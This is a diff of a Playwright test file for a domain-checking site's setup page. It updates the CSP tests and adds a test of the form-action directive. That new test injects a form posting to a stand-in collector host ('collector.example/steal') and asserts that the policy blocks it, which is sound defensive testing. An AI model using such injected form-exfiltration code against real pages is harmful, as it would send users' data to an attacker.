@@ -6,7 +6,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { domainToASCII } from 'node:url';
-import { isolatedContext, watchErrors, useSite, server, browser } from './support.mjs';
+import { isolatedContext, watchErrors, useSite, server, browser, BASE_PATH } from './support.mjs';
 import { answer, routePolicy, healthyZone, policyReply, ENFORCE_POLICY } from './dns.mjs';
 
 useSite();
@@ -470,8 +470,9 @@ for (const [param, payload] of addressPayloads) {
   });
 }
 
-// Both pages carry the same CSP; the assistant page is opened without a domain, so it only waits.
-const cspPages = [['checker', '', 'form input[name=domain]'], ['assistant', 'setup/', '[data-input-error]']];
+// Both pages carry the same CSP; the assistant page is opened without a domain, so it only asks
+// for one.
+const cspPages = [['checker', '', 'form input[name=domain]'], ['assistant', 'setup/', 'form input[name=domain]']];
 for (const [name, path, ready] of cspPages) {
   test(`the CSP is in force on the ${name} page: an injected inline script does not run`, async () => {
     const t = await open({ path });
@@ -514,6 +515,38 @@ for (const [name, path, ready] of cspPages) {
     await t.context.close();
   });
 }
+
+// form-action: the checker's form never navigates ('none'); the assistant's domain form is a
+// plain GET of its own page, which its CSP allows ('self'), and nothing else.
+test('form-action: the assistant\'s domain form submits to its own page, and to nowhere else', async () => {
+  const t = await open({ path: 'setup/' });
+  await t.page.locator('form input[name=domain]').waitFor();
+  assert.match(await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
+    /form-action 'self'/);
+  const violation = () => t.page.evaluate(() => new Promise((resolve) => {
+    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+    setTimeout(() => resolve(null), 2000);
+  }));
+  // The page's own form goes through.
+  await t.page.locator('form input[name=domain]').fill(D);
+  await t.page.getByRole('button', { name: 'Set up' }).click();
+  await t.page.locator('[data-setup]').waitFor();
+  assert.equal(new URL(t.page.url()).searchParams.get('domain'), D);
+  // A form injected to post elsewhere is refused (last: the blocked navigation stays pending
+  // for Playwright).
+  const refused = violation();
+  await t.page.evaluate(() => {
+    const f = document.createElement('form');
+    f.method = 'post';
+    f.action = 'https://collector.example/steal';
+    document.body.append(f);
+    f.submit();
+  });
+  assert.equal(await refused, 'form-action');
+  assert.equal(new URL(t.page.url()).pathname, `${BASE_PATH}setup/`);
+  assert.deepEqual(t.outside, [], 'nothing left for another host');
+  await t.context.close();
+});
 
 // ---------------------------------------------------------------------------------------------
 // 4. Input that is no domain: a clear reason, and no lookup.
